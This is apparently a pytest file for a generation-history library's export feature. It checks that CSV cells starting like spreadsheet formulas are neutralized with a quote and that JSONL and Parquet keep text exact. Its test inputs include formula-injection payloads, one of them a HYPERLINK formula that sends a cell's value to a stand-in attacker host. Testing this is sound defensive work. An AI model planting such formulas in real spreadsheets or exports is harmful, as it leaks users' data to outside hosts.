"""Exports: CSV cells neutralized against formula injection (numbers untouched, JSONL/Parquet exact),
windowed writing that keeps order and one header, progress, and a clear refusal of a missing folder."""
from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta
from decimal import Decimal

import pandas as pd
import pytest

from genlib import BadRequest, Filters, Generation
from genlib.cli import main as cli_main
from tests.contract.records import read_export
from tests.vaults import make_vault


HOSTILE = ['=HYPERLINK("http://evil.example/?"&B2,"Open")', "+1+2", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd",
           "\uff1dHYPERLINK(1)", "plain text", "it's fine = yes"]
START = datetime(2026, 3, 1, 12, 0, 0)


def seed(vault, prompts: list[str], cost=Decimal("-0.25")) -> list[str]:
    """Finished rows written straight to the store (a negative cost: a refund must stay a number)."""
    rows = [Generation(id=f"id{i:019d}", kind="text", user_id="ana", model_requested="m", prompt=p,
                       status="complete", result_text=p, output_tokens=-3 if i == 0 else i, cost_usd=cost,
                       created_utc=START + timedelta(seconds=i)) for i, p in enumerate(prompts)]
    vault.store.write_batch(inserts=rows)
    return [g.id for g in rows]


@pytest.fixture
def vault(tmp_path):
    v = make_vault(tmp_path / "data")
    yield v
    v.close()


def read_csv(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_text_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(vault, tmp_path):
    seed(vault, HOSTILE)
    rows = read_csv(vault.export(tmp_path / "out.csv", "csv"))
    rows = rows[::-1]  # newest first; seeded oldest first
    assert [r["prompt"] for r in rows] == ["'" + p for p in HOSTILE[:7]] + HOSTILE[7:]
    assert [r["result_text"] for r in rows] == [r["prompt"] for r in rows]
    assert rows[0]["output_tokens"] == "-3" and Decimal(rows[0]["cost_usd"]) == Decimal("-0.25")
    raw = (tmp_path / "out.csv").read_text(encoding="utf-8").splitlines()
    assert raw[0].startswith('"id","kind"') and ',-3,' in raw[-1] and ',"-0.25' not in raw[-1]
    assert raw[-1].startswith('"id0000000000000000000","text"')  # every text field quoted


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_exact_text(vault, tmp_path, fmt):
    seed(vault, HOSTILE)
    dest = vault.export(tmp_path / f"out.{fmt}", fmt)
    if fmt == "jsonl":
        prompts = [json.loads(line)["prompt"] for line in dest.read_text(encoding="utf-8").splitlines()]
    else:
        prompts = list(pd.read_parquet(dest)["prompt"])
    assert prompts == HOSTILE[::-1]  # newest first


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_a_windowed_export_keeps_every_row_newest_first_with_one_header(vault, tmp_path, monkeypatch, fmt):
    monkeypatch.setattr("genlib.backends.duckdb.export.WINDOW_ROWS", 4)
    ids = seed(vault, [f"row {i}" for i in range(11)])
    seen = []
    dest = vault.export(tmp_path / f"out.{fmt}", fmt, progress=lambda done, total: seen.append((done, total)))
    frame = read_export(dest, fmt)
    assert list(frame["id"]) == ids[::-1]  # as History's table shows them
    assert seen == [(3, 11), (7, 11), (11, 11)]  # the newest window (3 rows) first
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", f"out.{fmt}"]  # no window or part file left


def test_jsonl_nests_the_json_columns_as_objects_and_csv_keeps_them_as_text(vault, tmp_path):
    row = Generation(id="id" + "9" * 19, kind="text", user_id="ana", model_requested="m", prompt="p", status="complete",
                     messages_json=json.dumps([{"role": "user", "content": "p"}]),
                     params_json=json.dumps({"temperature": 0.5, "max_tokens": 20}), usage_json="not json {",
                     created_utc=START)
    vault.store.write_batch(inserts=[row])
    [line] = vault.export(tmp_path / "out.jsonl", "jsonl").read_text(encoding="utf-8").splitlines()
    record = json.loads(line)
    assert record["messages_json"] == [{"role": "user", "content": "p"}]
    assert record["params_json"] == {"temperature": 0.5, "max_tokens": 20}
    assert record["images_json"] is None and record["usage_json"] == "not json {"  # not JSON: kept as text
    [cells] = read_csv(vault.export(tmp_path / "out.csv", "csv"))
    assert json.loads(cells["params_json"]) == {"temperature": 0.5, "max_tokens": 20}
    assert json.loads(pd.read_parquet(vault.export(tmp_path / "out.parquet", "parquet"))["params_json"][0])["max_tokens"] == 20


def test_an_empty_csv_export_has_its_header(vault, tmp_path):
    dest = vault.export(tmp_path / "none.csv", "csv", Filters(q="nothing matches"))
    assert dest.read_text().startswith('"id","kind"')


def test_a_missing_folder_is_named_and_nothing_is_created(vault, tmp_path):
    seed(vault, ["x"])
    with pytest.raises(BadRequest, match=f"The folder {tmp_path / 'nope'} does not exist"):
        vault.export(tmp_path / "nope" / "out.csv", "csv")
    with pytest.raises(BadRequest, match="is a folder"):
        vault.export(tmp_path, "csv")
    assert not (tmp_path / "nope").exists()


def test_cli_export_to_a_missing_folder_says_so(tmp_path, capsys):
    assert cli_main(["export", str(tmp_path / "missing" / "out.csv")]) == 1
    err = capsys.readouterr().err
    assert err.strip() == f"genlib: The folder {tmp_path / 'missing'} does not exist: create it first, or export elsewhere."
    assert not (tmp_path / "missing").exists()
